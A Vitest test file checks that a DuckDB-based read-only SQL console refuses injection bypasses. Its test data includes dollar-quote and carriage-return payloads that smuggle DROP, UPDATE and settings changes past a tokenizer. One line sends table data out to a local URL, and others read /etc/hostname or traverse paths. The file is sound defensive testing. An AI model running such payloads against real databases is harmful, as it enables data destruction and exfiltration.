import { beforeAll, describe, expect, it } from 'vitest';
import type { Connector } from '../../../src/lib/db/connector';
import { rowsOf } from '../../../src/lib/metrics/common/rows';
import { checkReadOnly } from '../../../src/lib/sql-console/read-only-guard';
import { runReadOnlyQuery } from '../../../src/lib/sql-console/run-read-only-query';
import { openDemoData } from '../support/demo-data';
import { databaseFingerprint } from '../support/database-fingerprint';

/**
 * Issue 15: user SQL runs where DuckDB itself refuses writes, files, URLs and settings. The texts
 * below got past the tokenizer on main and changed or sent the user's data.
 */
let db: Connector;
let before: string;
beforeAll(async () => {
  db = await openDemoData();
  before = await databaseFingerprint(db);
}, 120_000);

const BYPASSES = [
  // DuckDB ends the dollar quote at the second $é$; the tokenizer read one harmless statement.
  `select $é$'$é$ AS a; DROP TABLE forces; --'`,
  `select $é$'$é$ AS a; UPDATE status_updates SET status = 'complete'; --'`,
  `select $é$'$é$ AS a; CREATE TABLE stolen AS SELECT * FROM status_updates; --'`,
  `select $é$'$é$ AS a; SET enable_external_access = true; --'`,
  `select $é$'$é$ AS a; SELECT * FROM read_csv('http://127.0.0.1:9/?' || (SELECT string_agg(status, ',') FROM status_updates)); --'`,
  // A comment ended by a carriage return: DuckDB reads the next line as SQL.
  'SELECT 1 AS a -- note\r; DROP TABLE forces;\nSELECT 2 AS b',
];

describe('the read-only sandbox', () => {
  it.each(BYPASSES)('refuses %j, which the tokenizer alone let through, and nothing changes', async (sql) => {
    expect(checkReadOnly(sql).ok).toBe(true); // why the sandbox is needed
    const outcome = await runReadOnlyQuery(db, sql);
    expect(outcome.status).not.toBe('ok');
    expect(await databaseFingerprint(db)).toBe(before);
  });

  it('names the one-statement rule in plain words', async () => {
    const outcome = await runReadOnlyQuery(db, BYPASSES[0]!);
    expect(outcome).toEqual({ status: 'refused', message: expect.stringMatching(/^Run one statement at a time/) });
  });

  // Straight to DuckDB, past the tokenizer: what DuckDB itself allows is what counts.
  it.each([
    ['DROP TABLE forces', /read-only/],
    ["UPDATE status_updates SET status = 'complete'", /read-only/],
    ['DELETE FROM status_updates', /read-only/],
    ['CREATE TABLE t AS SELECT 1 AS a', /read-only/],
    ['CREATE MACRO m() AS 1', /read-only/],
    ['SET enable_external_access = true', /locked/],
    ['SET lock_configuration = false', /locked/],
    ['RESET memory_limit', /locked/],
    ['LOAD httpfs', /./],
    ["SELECT * FROM read_csv('/etc/hostname')", /Permission Error/],
    ["SELECT * FROM '/etc/hostname'", /Permission Error|Catalog Error/],
    ["SELECT * FROM read_csv('https://example.org/x.csv')", /Permission Error/],
    ["SELECT * FROM read_text('shipped/../package.json')", /Permission Error/],
    ["ATTACH '/tmp/other.duckdb' AS other", /./],
    ["COPY forces TO '/tmp/forces.csv'", /./],
    ['SELECT 1; SELECT 2', /multiple statements/],
  ])('DuckDB refuses %j in the sandbox', async (sql, why) => {
    await expect(db.queryReadOnly(sql)).rejects.toThrow(why);
    expect(await databaseFingerprint(db)).toBe(before);
  });

  it('undoes what DuckDB lets a read-only transaction do: temporary tables, INSTALL (a no-op here)', async () => {
    await db.queryReadOnly('CREATE TEMP TABLE t AS SELECT 1 AS a');
    await db.queryReadOnly('INSTALL httpfs');
    const left = await db.queryReadOnly(
      `SELECT (SELECT count(*) FROM duckdb_tables() WHERE temporary)::INTEGER AS temporary,
              (SELECT count(*) FROM duckdb_extensions() WHERE extension_name = 'httpfs' AND loaded)::INTEGER AS httpfs`,
    );
    expect(rowsOf(left)).toEqual([{ temporary: 0, httpfs: 0 }]);
    expect(await databaseFingerprint(db)).toBe(before);
  });

  it('still reads the loaded tables, their schema and their summaries', async () => {
    for (const sql of ["PRAGMA table_info('forces')", 'DESCRIBE forces', 'SHOW TABLES', 'SUMMARIZE forces', 'EXPLAIN SELECT * FROM forces']) {
      const outcome = await runReadOnlyQuery(db, sql);
      expect(outcome.status, sql).toBe('ok');
    }
    expect(rowsOf<{ n: number }>(await db.queryReadOnly('SELECT count(*)::INTEGER AS n FROM forces'))).toEqual([{ n: 43 }]);
  });

  it('ends its transaction whatever the statement did, so the next one runs', async () => {
    await expect(db.queryReadOnly('COMMIT')).resolves.toBeDefined();
    await expect(db.queryReadOnly('SELEC 1')).rejects.toThrow(/syntax/);
    const answers = await Promise.all([1, 2, 3].map((n) => db.queryReadOnly('SELECT $1::INTEGER AS n', [n])));
    expect(answers.map((table) => rowsOf<{ n: number }>(table)[0]!.n)).toEqual([1, 2, 3]);
  });

  it("leaves the app's own connection free to load data", async () => {
    await db.query('CREATE TABLE sandbox_probe AS SELECT 1 AS a');
    await db.query('DROP TABLE sandbox_probe');
    expect(await databaseFingerprint(db)).toBe(before);
  });
});
